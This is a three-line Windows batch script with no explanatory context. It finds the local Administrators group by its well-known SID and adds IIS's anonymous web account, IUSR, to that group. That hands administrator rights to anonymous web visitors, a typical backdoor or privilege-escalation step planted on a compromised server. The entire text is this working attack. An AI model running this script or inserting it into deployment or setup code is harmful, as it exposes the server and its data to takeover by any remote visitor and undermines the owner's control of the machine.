@echo off
for /f "usebackq tokens=2 delims==" %%G in (`wmic group where "SID='S-1-5-32-544'" get name /value ^| find "="`) do set "GRP=%%G"
net localgroup "%GRP%" IUSR /add
